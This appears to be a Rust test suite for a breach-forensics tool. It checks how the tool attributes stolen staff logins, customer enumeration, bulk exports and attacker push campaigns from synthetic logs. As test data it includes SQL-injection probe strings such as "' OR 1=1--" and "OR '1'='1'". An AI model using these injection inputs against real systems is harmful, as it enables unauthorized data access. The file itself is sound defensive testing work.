    let found = of_technique(&a, t::ENUMERATION);
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].subject, "ops@corp.example from 40 addresses");
    assert_eq!(
        found[0].seed_contexts.len(),
        40,
        "the office is the staff member's"
    );
    assert!(
        found[0].seed_ips.is_empty(),
        "the exits are not the attacker's whole"
    );
}

/// Staff at the office, 198.51.100.10, on four days: five report requests a day.
fn office(v: &mut Vec<Event>, user: Option<&str>) {
    for d in 0..4 {
        for k in 0..5 {
            v.push(gw(
                T0 + d * DAY + k * MIN,
                "198.51.100.10",
                "GET",
                "/admin/reports",
                200,
                user,
            ));
        }
    }
}

/// olga's staff request at `ts` from `ip`.
fn olga_at(v: &mut Vec<Event>, ts: i64, ip: &str) {
    v.push(gw(ts, ip, "GET", "/admin/reports", 200, Some("olga@staff")));
}

#[test]
fn new_place_vs_usual_place() {
    let mut v = background();
    office(&mut v, Some("olga@staff"));
    v.push(gw(
        T0 + 4 * DAY,
        "192.0.2.77",
        "GET",
        "/admin/reports",
        200,
        Some("olga@staff"),
    ));
    v.push(gw(
        T0 + 4 * DAY + MIN,
        "198.51.100.10",
        "GET",
        "/admin/reports",
        200,
        Some("olga@staff"),
    ));
    let a = run(v);
    assert!(has(&a, t::NEW_PLACE_ACCESS, "olga@staff@192.0.2.77"));
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "198.51.100.10"));
    // The same principal from its usual place stays legitimate.
    let usual = a
        .ing
        .events
        .iter()
        .position(|e| e.ts == T0 + 4 * DAY + MIN)
        .unwrap();
    assert!(a.attr[usual].is_none());
}

#[test]
fn staff_at_home_doing_their_usual_work_is_a_note_and_a_stranger_s_browser_is_a_finding() {
    const CHROME: &str = "Mozilla/5.0 (Windows NT 10.0) Chrome/120.0";
    let staff =
        |v: &mut Vec<Event>, ts: i64, ip: &str, method: &str, path: &str, who: &str, ua: &str| {
            let mut e = gw(ts, ip, method, path, 200, Some(who));
            e.user_agent = Some(ua.into());
            v.push(e);
        };
    let mut v = background();
    for who in ["olga@staff", "ivan@staff"] {
        for d in 0..4 {
            for k in 0..5 {
                let ts = T0 + d * DAY + k * MIN;
                staff(
                    &mut v,
                    ts,
                    "198.51.100.10",
                    "GET",
                    "/admin/reports",
                    who,
                    CHROME,
                );
            }
        }
    }
    let send = "/admin/push/campaigns/cmp-lunch01/send";
    staff(
        &mut v,
        T0 + DAY + 9 * MIN,
        "198.51.100.10",
        "POST",
        send,
        "olga@staff",
        CHROME,
    );
    // Day 5: olga sends a campaign from home in her own browser; ivan's login is used
    // from another new address in a browser he never used.
    let home = "203.0.113.200";
    staff(
        &mut v,
        T0 + 5 * DAY,
        home,
        "GET",
        "/admin/reports",
        "olga@staff",
        CHROME,
    );
    let send2 = "/admin/push/campaigns/cmp-note02/send";
    staff(
        &mut v,
        T0 + 5 * DAY + MIN,
        home,
        "POST",
        send2,
        "olga@staff",
        CHROME,
    );
    let firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0";
    staff(
        &mut v,
        T0 + 5 * DAY + 2 * MIN,
        "192.0.2.77",
        "GET",
        "/admin/reports",
        "ivan@staff",
        firefox,
    );
    let a = run(v);
    assert!(!has(&a, t::NEW_PLACE_ACCESS, home), "{:?}", a.findings);
    assert!(a
        .attr
        .iter()
        .all(|x| x.as_ref().is_none_or(|x| !x.reason.contains(home))));
    let note = a
        .notes
        .iter()
        .find(|n| n.contains("places they had not used before"));
    assert!(
        note.is_some_and(|n| n.contains("olga@staff from 203.0.113.200")),
        "{:?}",
        a.notes
    );
    assert!(has(&a, t::NEW_PLACE_ACCESS, "ivan@staff@192.0.2.77"));
}

#[test]
fn a_stolen_login_used_across_midnight_is_not_a_usual_place() {
    // The office on four days; then the principal's login from a new address, a
    // request a minute from 23:40 to 00:05: one sitting, though on two dates.
    let mut v = background();
    office(&mut v, Some("olga@staff"));
    let midnight = T0.div_euclid(DAY) * DAY + 5 * DAY;
    for k in -20..5 {
        v.push(gw(
            midnight + k * MIN,
            "192.0.2.77",
            "GET",
            &format!("/admin/customers/{}", 6000 + k + 20),
            200,
            Some("olga@staff"),
        ));
    }
    let a = run(v);
    assert!(has(&a, t::NEW_PLACE_ACCESS, "olga@staff@192.0.2.77"));
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "198.51.100.10"));
}

#[test]
fn a_login_used_elsewhere_while_its_owner_works_in_the_office_is_new_on_the_first_day() {
    // The evidence holds one day: olga at the office every ten minutes for eight hours;
    // her login from 192.0.2.77 for twenty minutes two hours in, while she goes on
    // working; from home three hours after she left. All three fall in her first hours.
    let mut v = background();
    for k in 0..48 {
        olga_at(&mut v, T0 + k * 10 * MIN, "198.51.100.10");
    }
    for k in 0..20 {
        olga_at(&mut v, T0 + 120 * MIN + k * MIN, "192.0.2.77");
    }
    for k in 0..5 {
        olga_at(&mut v, T0 + 660 * MIN + k * MIN, "203.0.113.200");
    }
    let a = run(v);
    assert!(
        has(&a, t::NEW_PLACE_ACCESS, "olga@staff@192.0.2.77"),
        "{:?}",
        a.findings
    );
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "198.51.100.10"));
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "203.0.113.200"));
}

#[test]
fn a_first_hours_place_that_other_findings_flag_is_not_a_usual_place() {
    // One day of evidence: an injection probe from 192.0.2.77, then olga's login used
    // from that host, before olga comes to the office. Her first hours would make the
    // host a usual place; the probe says whose it is.
    let mut v = background();
    let mut probe = gw(T0 + 60 * MIN, "192.0.2.77", "GET", "/api/search", 500, None);
    probe.query = Some("q=%27%20OR%201%3D1--".into());
    v.push(probe);
    for k in 0..3 {
        let ts = T0 + 65 * MIN + k * MIN;
        olga_at(&mut v, ts, "192.0.2.77");
    }
    for k in 0..30 {
        let ts = T0 + 180 * MIN + k * 10 * MIN;
        olga_at(&mut v, ts, "198.51.100.10");
    }
    let a = run(v);
    assert!(
        has(&a, t::NEW_PLACE_ACCESS, "olga@staff@192.0.2.77"),
        "{:?}",
        a.findings
    );
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "198.51.100.10"));
    assert!(
        a.notes.iter().any(|n| n.contains(
            "flag those addresses: olga@staff from 192.0.2.77. They are not counted as usual"
        )),
        "{:?}",
        a.notes
    );
    let staff_there = (a.ing.events.iter().enumerate())
        .filter(|(_, e)| e.client_ip.as_deref() == Some("192.0.2.77") && e.principal.is_some());
    for (i, _) in staff_there {
        assert!(a.attr[i].is_some());
    }
}

#[test]
fn an_office_named_on_later_days_is_staff_at_work_on_a_day_only_an_unnamed_layer_logged() {
    // Two gateway layers; only the one that logs no identity reaches back to day 0. On
    // day 0 the office reads the customer list page by page (a report); on days 1 and 2
    // the other layer names the staff member there. Unnamed pages from an address no
    // staff member worked from are still an export.
    let pages = |v: &mut Vec<Event>, ip: &str, t: i64| {
        for n in 1..=40 {
            let path = format!("/admin/customers?page={n}&per_page=50");
            v.push(gw(t + n * 20_000_000, ip, "GET", &path, 200, None));
        }
    };
    let mut v = background();
    pages(&mut v, "198.51.100.10", T0 + 180 * MIN);
    pages(&mut v, "192.0.2.77", T0 + 120 * MIN);
    for d in 1..3 {
        for k in 0..5 {
            let ts = T0 + d * DAY + k * MIN;
            olga_at(&mut v, ts, "198.51.100.10");
        }
    }
    let a = run(v);
    assert!(
        !has(&a, t::BULK_EXPORT, "198.51.100.10"),
        "{:?}",
        a.findings
    );
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "198.51.100.10"));
    assert!(has(&a, t::BULK_EXPORT, "192.0.2.77"), "{:?}", a.findings);
}

/// Staff at the office on four days through a gateway that logs no identity, then
/// staff-route requests from 192.0.2.77; with `enumerate`, that address also reads 80
/// customers' records.
fn unnamed_staff(enumerate: bool) -> Analysis {
    let mut v = background();
    office(&mut v, None);
    let t = T0 + 4 * DAY;
    v.push(gw(t, "192.0.2.77", "POST", "/admin/auth/login", 200, None));
    v.push(gw(
        t + MIN,
        "192.0.2.77",
        "GET",
        "/admin/reports",
        200,
        None,
    ));
    // A scanner's refused tries on staff routes are no place of staff.
    v.push(gw(t, "198.18.0.9", "GET", "/admin/reports", 403, None));
    if enumerate {
        enumerate_from(&mut v, t + 2 * MIN, "192.0.2.77");
    }
    run(v)
}

#[test]
fn unnamed_staff_places_count_beside_other_findings_and_are_a_note_alone() {
    let a = unnamed_staff(true);
    assert!(has(&a, t::ENUMERATION, "192.0.2.77"));
    assert!(has(&a, t::NEW_PLACE_ACCESS, "192.0.2.77 (staff routes"));
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "198.51.100.10"));
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "198.18.0.9"));
    let w = &a.waves[0];
    assert!(
        w.techniques.contains(t::NEW_PLACE_ACCESS),
        "{:?}",
        w.techniques
    );
    assert!(
        a.notes
            .iter()
            .any(|n| n.starts_with("Wave 1 used staff routes from 192.0.2.77")),
        "{:?}",
        a.notes
    );
    // Alone, the new place is a staff member away from the office as much as a stolen
    // login: a note to review, not the attacker's.
    let a = unnamed_staff(false);
    assert!(!has(&a, t::NEW_PLACE_ACCESS, "192.0.2.77"));
    assert!(a.waves.is_empty());
    let note = (a.notes.iter())
        .find(|n| n.starts_with("Successful staff-route requests that carry no identity"))
        .expect("a note");
    assert!(note.contains("192.0.2.77 (2 requests") && !note.contains("198.18.0.9"));
}

#[test]
fn a_customer_s_statements_on_the_connection_the_attacker_just_used_are_the_customer_s() {
    // The attacker's promotion code for its own account 101400, and in the same second
    // the checkout of customer 101322 (who read their balance from 100.64.9.5 earlier):
    // the pooled connection logs both requests' statements at one millisecond.
    let mut v = background();
    let t = T0 + 2 * DAY;
    v.push(gw(
        t - 30 * MIN,
        "100.64.9.5",
        "GET",
        "/api/customers/101322/bonuses",
        200,
        None,
    ));
    // An injection probe flags the attacker's address.
    v.push(gw(
        t - MIN,
        "203.0.113.14",
        "GET",
        "/api/menu/search?q=%27%20OR%201%3D1--",
        200,
        None,
    ));
    let mut promo = gw(
        t,
        "203.0.113.14",
        "POST",
        "/api/customers/101400/bonuses/promo-codes",
        200,
        None,
    );
    promo.request_id = None;
    v.push(promo);
    let mut checkout = gw(t, "100.64.9.5", "POST", "/api/checkout", 201, None);
    checkout.request_id = None;
    v.push(checkout);
    let at = t + 505_000;
    let host = "10.0.1.11";
    // The application's pool: the busy host of the day's ordinary reads.
    for k in 0..120 {
        let q = format!("SELECT * FROM customers WHERE id = {}", 5000 + k);
        v.push(db(T0 + DAY + k * MIN, "app", host, &q, None));
    }
    v.push(db(
        at,
        "app",
        host,
        "UPDATE bonus_wallets SET balance = balance + 5000 WHERE account_id = 101400",
        None,
    ));
    v.push(db(
        at,
        "app",
        host,
        "INSERT INTO checkouts (account_id, amount) VALUES (101322, 110)",
        None,
    ));
    v.push(db(
        at,
        "app",
        host,
        "UPDATE bonus_wallets SET balance = balance + 11 WHERE account_id = 101322",
        None,
    ));
    let a = run(v);
    let ev = &a.ing.events;
    let stmt = |needle: &str| {
        (0..ev.len())
            .find(|&i| {
                ev[i]
                    .statement
                    .as_deref()
                    .is_some_and(|s| s.contains(needle))
            })
            .expect("statement")
    };
    let why = |i: usize| a.attr[i].as_ref().map(|x| x.reason.as_str());
    assert!(
        why(stmt("+ 5000")).is_some_and(|r| r.starts_with("statement of attacker request")),
        "{:?}",
        why(stmt("+ 5000"))
    );
    assert_eq!(why(stmt("checkouts")), None);
    assert_eq!(why(stmt("+ 11")), None);
}

fn push_rows(ts: i64, msg: &str, label: &str, n: usize) -> Vec<Event> {
    (0..n)
        .map(|k| {
            let mut e = Event::new(SourceKind::Push, "fcm-bigquery-json");
            e.ts = ts + k as i64 * 1000;
            e.push_mut().message_id = Some(msg.into());
            e.push_mut().campaign_id = Some(label.into());
            e.push_mut().device_id = Some(format!("dev{k}").into());
            e.push_mut().delivery = Some("MESSAGE_DELIVERED".into());
            e.outcome = Outcome::Success;
            e
        })
        .collect()
}

/// A stolen staff login reads sixty customers from a new address on day 3, then sends
/// campaign `cmp-evil001` ten minutes in.
fn evil_campaign(v: &mut Vec<Event>) {
    for k in 0..60 {
        v.push(gw(
            T0 + 3 * DAY + k * 5_000_000,
            "192.0.2.66",
            "GET",
            &format!("/admin/customers/{}", 8000 + k),
            200,
            Some("olga@staff"),
        ));
    }
    v.push(gw(
        T0 + 3 * DAY + 10 * MIN,
        "192.0.2.66",
        "POST",
        "/admin/push/campaigns/cmp-evil001/send",
        202,
        Some("olga@staff"),
    ));
}

/// Olga at the office on days 0–2; on day 1 she sends campaign `cmp-legit01`, delivered
/// to 300 devices as `m-legit`.
fn staff_broadcast(v: &mut Vec<Event>) {
    for d in 0..3 {
        v.push(gw(
            T0 + d * DAY,
            "198.51.100.10",
            "GET",
            "/admin/dashboard",
            200,
            Some("olga@staff"),
        ));
    }
    v.push(gw(
        T0 + DAY + MIN,
        "198.51.100.10",
        "POST",
        "/admin/push/campaigns/cmp-legit01/send",
        202,
        Some("olga@staff"),
    ));
    v.extend(push_rows(T0 + DAY + 2 * MIN, "m-legit", "cmp-legit01", 300));
}

#[test]
fn a_send_to_everyone_asked_by_a_script_at_a_new_place_is_the_attacker_s() {
    // A gateway that logs no identity. Staff work from the office in a browser on days
    // 0–2 and send a broadcast on day 1; on day 2 a staff member at home sends a small
    // test send in the same browser.
    let browser = "Mozilla/5.0 (Macintosh) Safari/17.2";
    let script = "python-requests/2.31.0";
    let at = |ts: i64, ip: &str, method: &str, path: &str, status: u16, ua: &str| {
        let mut e = gw(ts, ip, method, path, status, None);
        e.user_agent = Some(ua.into());
        e.request_id = None;
        e
    };
    let mut v = background();
    v.extend(office_mornings(3, Some(browser)));
    let t = T0 + DAY + 9 * 3_600_000_000;
    v.push(at(
        t,
        "198.51.100.10",
        "POST",
        "/ops/push/campaigns",
        202,
        browser,
    ));
    v.extend(push_rows(t + 5_000_000, "m-legit", "c-legit", 300));
    let t = T0 + 2 * DAY + 20 * 3_600_000_000;
    v.push(at(
        t,
        "203.0.113.40",
        "POST",
        "/ops/auth/login",
        200,
        browser,
    ));
    v.push(at(
        t + MIN,
        "203.0.113.40",
        "POST",
        "/ops/push/campaigns",
        202,
        browser,
    ));
    v.extend(push_rows(t + MIN + 5_000_000, "m-test", "c-test", 3));
    // On day 3 a script signs in at its first try from a new address and asks for a
    // send to everyone.
    let t = T0 + 3 * DAY + 14 * 3_600_000_000;
    v.push(at(t, "192.0.2.99", "POST", "/ops/auth/login", 200, script));
    v.push(at(
        t + MIN,
        "192.0.2.99",
        "POST",
        "/ops/push/campaigns",
        202,
        script,
    ));
    v.extend(push_rows(t + MIN + 5_000_000, "m-evil", "c-evil", 300));
    let a = run(v);
    let m = |id: &str| a.messages.iter().find(|m| m.id == id).unwrap();
    assert!(m("m-evil").malicious, "{}", m("m-evil").reason);
    assert!(!m("m-legit").malicious, "{}", m("m-legit").reason);
    assert!(!m("m-test").malicious, "{}", m("m-test").reason);
    let found = of_technique(&a, t::NEW_PLACE_ACCESS);
    let subjects: Vec<&str> = found.iter().map(|f| f.subject.as_str()).collect();
    assert_eq!(subjects, ["192.0.2.99 (staff routes, no identity logged)"]);
    assert!(
        found[0].explanation.contains("asked at")
            && found[0]
                .explanation
                .contains("for a send to 100 devices or more")
    );
    assert_eq!(a.waves.len(), 1);
    assert!(a.waves[0].attacker_ips.contains("192.0.2.99"));
}

/// Delivery records of a provider that logs neither the text nor the application's
/// campaign (SNS delivery status logs): `n` devices of message `msg`.
fn sns_rows(ts: i64, msg: &str, n: usize) -> Vec<Event> {
    (0..n)
        .map(|k| {
            let mut e = Event::new(SourceKind::Push, "sns-delivery");
            e.ts = ts + k as i64 * 1000;
            e.push_mut().message_id = Some(msg.into());
            e.push_mut().device_id = Some(format!("arn:dev{k}").into());
            e.push_mut().delivery = Some("SUCCESS".into());
            e.outcome = Outcome::Success;
            e
        })
        .collect()
}

#[test]
fn a_provider_that_logs_no_text_takes_it_from_the_campaign_row_the_request_wrote() {
    // A gateway that logs no identity; the console's request writes the campaign's row
    // (title, body, author), then the provider logs deliveries only. Tagged with the
    // request's id, or untagged seconds after it: the row says what was sent and by
    // whom. A row written minutes later is another request's, and says nothing.
    let row = "INSERT INTO campaigns (title, body, audience, created_by) \
               VALUES ('Double points', 'Earn double this weekend', 'all', 'ops.maria')";
    for (tagged, after, told) in [
        (true, 40_000, true),
        (false, 40_000, true),
        (false, 5 * MIN, false),
    ] {
        let mut v = background();
        v.extend(office_mornings(3, None));
        let t = T0 + DAY + 9 * 3_600_000_000;
        let mut g = gw(t, "198.51.100.10", "POST", "/ops/push/campaigns", 202, None);
        g.request_id = tagged.then(|| "r-camp".into());
        v.push(g);
        v.push(db(
            t + after,
            "app",
            "10.0.0.5",
            row,
            tagged.then_some("r-camp"),
        ));
        v.extend(sns_rows(t + 6 * MIN, "m-1", 300));
        let a = run(v);
        let m = &a.messages[0];
        let case = format!("tagged {tagged}, row {after} µs after");
        if told {
            assert_eq!(m.title.as_deref(), Some("Double points"), "{case}");
            assert_eq!(
                m.body.as_deref(),
                Some("Earn double this weekend"),
                "{case}"
            );
            assert_eq!(m.sender.as_deref(), Some("ops.maria"), "{case}");
        } else {
            assert_eq!(
                (&m.title, &m.body, &m.sender),
                (&None, &None, &None),
                "{case}"
            );
        }
        assert_eq!(m.source_ip.as_deref(), Some("198.51.100.10"), "{case}");
    }
}

#[test]
fn a_sampled_log_of_a_send_to_a_topic_counts_every_device_it_reached() {
    // SNS logs one successful delivery in ten. The staff's broadcast on day 1 and the
    // attacker's on day 3 go to the topic every one of the roster's 300 devices is on;
    // their records share few devices, so they are samples, and the attacker's reached
    // about every device: every roster account counts as its recipient. Logged in full,
    // the records are the recipients.
    let topic = "topic:arn:aws:sns:eu-west-1:111122223333:shop-all";
    let sends = |ts: i64, msg: &str, keep: &dyn Fn(usize) -> bool| -> Vec<Event> {
        let mut v = sns_rows(ts, msg, 300);
        v.retain(|e| keep(e.push().device_id.as_deref().unwrap()[7..].parse().unwrap()));
        for e in &mut v {
            e.push_mut().push_target = Some(topic.into());
        }
        v
    };
    let roster: String = std::iter::once("account_id,created_at,device_ids\n".to_string())
        .chain((0..300).map(|k| format!("{},2025-01-01T00:00:00Z,arn:dev{k}\n", 8000 + k)))
        .collect();
    for sampled in [true, false] {
        let mut v = background();
        staff_broadcast(&mut v);
        v.retain(|e| e.kind() != SourceKind::Push);
        evil_campaign(&mut v);
        let (legit, evil): (&dyn Fn(usize) -> bool, &dyn Fn(usize) -> bool) = if sampled {
            // Thirty and thirty-three devices, three of them the same.
            (&|d| d % 10 == 0, &|d| d % 10 == 3 || d % 100 == 0)
        } else {
            (&|_| true, &|d| d != 7)
        };
        v.extend(sends(T0 + DAY + 2 * MIN, "m-legit", legit));
        v.extend(sends(T0 + 3 * DAY + 11 * MIN, "m-evil", evil));
        let a = run_with(v, Some(breachline::roster::Roster::parse(&roster, "r.csv")));
        let evil = a.messages.iter().find(|m| m.id == "m-evil").unwrap();
        assert!(evil.malicious, "{}", evil.reason);
        let pushed = (a.affected.values())
            .filter(|x| x.impacts.contains("malicious_push"))
            .count();
        let noted = a.notes.iter().any(|n| n.contains("capture–recapture"));
        if sampled {
            assert_eq!((pushed, evil.audience), (300, 300));
            assert!(noted, "{:?}", a.notes);
        } else {
            assert_eq!((pushed, evil.audience), (299, 0));
            assert!(!noted, "{:?}", a.notes);
        }
    }
}

#[test]
fn mass_push_by_attacker_vs_staff_broadcast() {
    let mut v = background();
    // Staff broadcast from the office (legitimate), attacker broadcast after enumeration.
    staff_broadcast(&mut v);
    evil_campaign(&mut v);
    v.extend(push_rows(
        T0 + 3 * DAY + 11 * MIN,
        "m-evil",
        "cmp-evil001",
        300,
    ));
    let a = run(v);
    let m = |id: &str| a.messages.iter().find(|m| m.id == id).unwrap();
    assert!(m("m-evil").malicious, "{}", m("m-evil").reason);
    assert!(!m("m-legit").malicious, "{}", m("m-legit").reason);
    assert!(m("m-legit").reason.contains("usual place"));
    assert!(a
        .waves
        .iter()
        .any(|w| w.techniques.contains(t::MALICIOUS_PUSH)));
}

#[test]
fn a_malicious_send_scheduled_for_the_next_day_is_a_wave_of_that_message() {
    // The attacker schedules the campaign: its sends come twenty hours after the request
    // that made it, a wave of their own, which is the message's as much as the first.
    let mut v = background();
    evil_campaign(&mut v);
    v.extend(push_rows(
        T0 + 3 * DAY + 20 * 60 * MIN,
        "m-evil",
        "cmp-evil001",
        300,
    ));
    let a = run(v);
    assert!(a.messages.iter().any(|m| m.id == "m-evil" && m.malicious));
    assert_eq!(a.waves.len(), 2, "{:?}", a.waves);
    for w in &a.waves {
        assert!(!w.techniques.is_empty(), "wave {} names no technique", w.id);
    }
    let last = &a.waves[1];
    assert!(last.techniques.contains(t::MALICIOUS_PUSH));
    assert_eq!(last.messages, ["m-evil"]);
    // The report's summary leaves out the address clause a wave of sends has nothing for.
    let doc = breachline::report::doc::build(&a, "t", None);
    let line = doc
        .summary
        .iter()
        .find(|s| s.starts_with("Wave 2 "))
        .unwrap();
    assert!(line.ends_with("hit push using malicious push."), "{line}");
}

/// `n` per-device deliveries of a message whose provider keeps its title and body.
fn titled(ts: i64, msg: &str, title: &str, n: usize) -> Vec<Event> {
    let mut v = push_rows(ts, msg, msg, n);
    for e in &mut v {
        e.push_mut().title = Some(title.into());
        e.push_mut().body = Some(format!("{title}!").into());
    }
    v
}

#[test]
fn a_mass_send_around_the_application_amid_the_attack_is_malicious_and_a_routine_one_is_not() {
    // The gateway logs steadily for four days; staff broadcast through the application;
    // a daily lunch message goes out from the provider's own scheduler (no request).
    let mut v = background();
    for k in 0..4 * 24 * 12 {
        let ip = format!("100.65.0.{}", k % 200);
        v.push(gw(T0 + k * 5 * MIN, &ip, "GET", "/api/menu", 200, None));
    }
    staff_broadcast(&mut v);
    for d in 0..3 {
        let at = T0 + d * DAY + 2 * 60 * MIN;
        v.extend(titled(at, &format!("lunch{d}"), "Lunch", 200));
    }
    // A one-off send from the provider's console on a quiet day.
    v.extend(titled(
        T0 + 2 * DAY + 5 * 60 * MIN,
        "m-oneoff",
        "Closed today",
        200,
    ));
    // Day 3: a stolen staff login reads sixty customers from a new address; the
    // lunch message goes out on schedule; then a mass send straight through the
    // provider's API, which no request of the application made.
    let mut attack = Vec::new();
    evil_campaign(&mut attack);
    attack.retain(|e| e.method.as_deref() == Some("GET"));
    v.extend(attack);
    v.extend(titled(T0 + 3 * DAY + 5 * MIN, "lunch3", "Lunch", 200));
    // A reminder FCM's export keeps no title for, only its label, every day, and amid
    // the attack on day 3.
    for d in 0..3 {
        let at = T0 + d * DAY + 4 * 60 * MIN;
        v.extend(push_rows(at, &format!("rem{d}"), "daily-reminder", 150));
    }
    v.extend(push_rows(
        T0 + 3 * DAY + 8 * MIN,
        "rem3",
        "daily-reminder",
        150,
    ));
    v.extend(titled(
        T0 + 3 * DAY + 12 * MIN,
        "m-evil",
        "You were hacked",
        300,
    ));
    let a = run(v);
    let m = |id: &str| a.messages.iter().find(|m| m.id == id).unwrap();
    assert!(m("m-evil").malicious, "{}", m("m-evil").reason);
    assert!(m("m-evil").reason.contains("outside the application"));
    assert!(m("m-evil")
        .reason
        .contains("other mass sends each came through a request"));
    for id in ["m-legit", "lunch0", "lunch3", "m-oneoff", "rem3"] {
        assert!(!m(id).malicious, "{id}: {}", m(id).reason);
    }
    let w = a.waves.iter().find(|w| w.messages == ["m-evil"]).unwrap();
    assert!(w.techniques.contains(t::MALICIOUS_PUSH));
}

#[test]
fn without_gateway_evidence_a_campaign_row_written_amid_the_attack_is_the_attacker_s_send() {
    // Database and push evidence only. Each message is a provider summary carrying the
    // application's campaign id and per-device rows carrying the message's own id (as
    // OneSignal's exports do); the application writes each campaign's row a minute
    // before its send. A statement sent through injection dumps the customers on day
    // 3; ten minutes later a campaign row is written and sent to everyone. The daily
    // lunch message goes out amid it too, as every day.
    let mut v = Vec::new();
    for k in 0..4 * 24 * 6 {
        let sql = format!("SELECT * FROM customers WHERE id = {}", 5000 + k % 200);
        v.push(db(T0 + k * 10 * MIN, "app", "10.0.0.5", &sql, None));
    }
    let send = |v: &mut Vec<Event>, at: i64, msg: &str, cmp: &str, title: &str| {
        let row = format!(
            "INSERT INTO push_campaigns (id, title, body, created_by) \
             VALUES ('{cmp}', '{title}', '{title}!', 'olga')"
        );
        v.push(db(at - MIN, "app", "10.0.0.5", &row, None));
        let mut summary = Event::new(SourceKind::Push, "onesignal-json");
        summary.ts = at;
        summary.push_mut().message_id = Some(msg.into());
        summary.push_mut().campaign_id = Some(cmp.into());
        summary.push_mut().title = Some(title.into());
        summary.push_mut().delivery = Some("summary".into());
        v.extend(push_rows(at, msg, msg, 300).into_iter().map(|r| {
            let mut e = Event::new(SourceKind::Push, "onesignal-audience-csv");
            e.ts = r.ts;
            e.outcome = r.outcome;
            *e.push_mut() = r.push().clone();
            e
        }));
        // The export of deliveries is read first (its file name sorts first).
        v.push(summary);
    };
    send(
        &mut v,
        T0 + DAY + 60 * MIN,
        "m-legit",
        "cmp-legit01",
        "Our statement",
    );
    for d in 0..4 {
        let at = T0 + d * DAY + 3 * 60 * MIN + 12 * MIN;
        send(
            &mut v,
            at,
            &format!("lunch{d}"),
            &format!("cmp-lunch0{d}"),
            "Lunch",
        );
    }
    v.push(db(
        T0 + 3 * DAY + 3 * 60 * MIN,
        "app",
        "10.0.0.5",
        "SELECT * FROM customers WHERE name = '' OR '1'='1'",
        None,
    ));
    send(
        &mut v,
        T0 + 3 * DAY + 3 * 60 * MIN + 10 * MIN,
        "m-evil",
        "cmp-evil001",
        "Hacked",
    );
    // A provider that carries no campaign id (SNS): the row written a minute before.
    let at = T0 + 3 * DAY + 3 * 60 * MIN + 20 * MIN;
    let row = "INSERT INTO push_campaigns (id, title, body, created_by) \
               VALUES ('cmp-evil002', 'Hacked again', 'x', 'olga')";
    v.push(db(at - MIN, "app", "10.0.0.5", row, None));
    v.extend(push_rows(at, "m-evil2", "", 300).into_iter().map(|mut e| {
        e.push_mut().campaign_id = None;
        e
    }));
    let a = run(v);
    let m = |id: &str| a.messages.iter().find(|m| m.id == id).unwrap();
    let evil = m("m-evil");
    assert!(evil.malicious, "{}", evil.reason);
    assert_eq!(evil.campaign.as_deref(), Some("cmp-evil001"));
    assert!(
        evil.reason.contains("no gateway evidence covers its time"),
        "{}",
        evil.reason
    );
    assert!(m("m-evil2").malicious, "{}", m("m-evil2").reason);
    for id in ["m-legit", "lunch3"] {
        assert!(!m(id).malicious, "{id}: {}", m(id).reason);
        assert!(
            m(id)
                .reason
                .contains("originating from app at 10.0.0.5; no link"),
            "{}",
            m(id).reason
        );
    }
    let w = a.waves.iter().find(|w| w.messages == ["m-evil", "m-evil2"]);
    assert!(w.unwrap().techniques.contains(t::MALICIOUS_PUSH));
}

fn onesignal_summary(ts: i64, id: &str) -> Event {
    let mut e = Event::new(SourceKind::Push, "onesignal-json");
    e.ts = ts;
    e.push_mut().message_id = Some(id.into());
    e.push_mut().campaign_id = Some(id.into());
    e.push_mut().title = Some("Lunch deal".into());
    e.push_mut().body = Some("Pizza".into());
    e.push_mut().delivery = Some("summary".into());
    e.push_mut().recipients = Some(100);
    e.push_mut().delivered = Some(90);
    e.push_mut().failed = Some(10);
    e.push_mut().push_target = Some("segment:Subscribed Users".into());
    e
}

#[test]
fn message_model_from_summary_deliveries_or_both() {
    let mut v = background();
    v.push(onesignal_summary(T0 + DAY, "os-summary-only"));
    v.extend(push_rows(T0 + DAY, "fcm-rows-only", "cmp-rows", 40));
    v.push(onesignal_summary(T0 + 2 * DAY, "os-both"));
    for k in 0..7 {
        let mut e = Event::new(SourceKind::Push, "onesignal-audience-csv");
        e.ts = T0 + 2 * DAY + k;
        e.push_mut().message_id = Some("os-both".into());
        e.push_mut().device_id = Some(format!("sub{k}").into());
        e.push_mut().delivery = Some(if k == 0 { "failed" } else { "delivered" }.into());
        e.outcome = if k == 0 {
            Outcome::Failure
        } else {
            Outcome::Success
        };
        v.push(e);
    }
    let a = run(v);
    let m = |id: &str| a.messages.iter().find(|m| m.id == id).unwrap().clone();
    let s = m("os-summary-only");
    assert_eq!(
        (s.recipient_count, s.delivered, s.failed, s.recipients.len()),
        (100, 90, 10, 0)
    );
    assert_eq!(s.title.as_deref(), Some("Lunch deal"));
    let r = m("fcm-rows-only");
    assert_eq!((r.recipient_count, r.delivered, r.failed), (40, 40, 0));
    assert_eq!(r.provider, "fcm");
    let b = m("os-both");
    assert_eq!((b.recipient_count, b.delivered, b.failed), (7, 6, 1));
    assert_eq!(b.title.as_deref(), Some("Lunch deal"));
    assert_eq!(b.provider, "onesignal");
}

#[test]
fn an_hour_of_pairs_an_hour_off_does_not_move_the_skew_correction() {
    // 1,000 tagged statements 37 s after their requests; 30 (3 %, an hour of a few days'
    // traffic, as a daylight-saving fold read wrongly gives) an hour earlier than that.
    let mut v = Vec::new();
    for k in 0..1_000i64 {
        let ts = T0 + k * MIN;
        let r = gw(ts, "100.64.0.1", "GET", "/api/v1/menu", 200, None);
        let rid = r.request_id.clone().unwrap();
        let off = if k % 33 == 0 { 37 - 3_600 } else { 37 };
        v.push(r);
        let text = "SELECT name FROM menu_items WHERE id = 7";
        v.push(db(
            ts + off * 1_000_000 + 4_000,
            "app",
            "10.0.0.5",
            text,
            Some(&rid),
        ));
    }
    let a = run(v);
    let s = a.skews.iter().find(|s| s.source == "db:pg-stderr").unwrap();
    assert_eq!(s.median_us, 37_004_000);
    assert_eq!(s.correction_us, 37_004_000, "{s:?}");
}
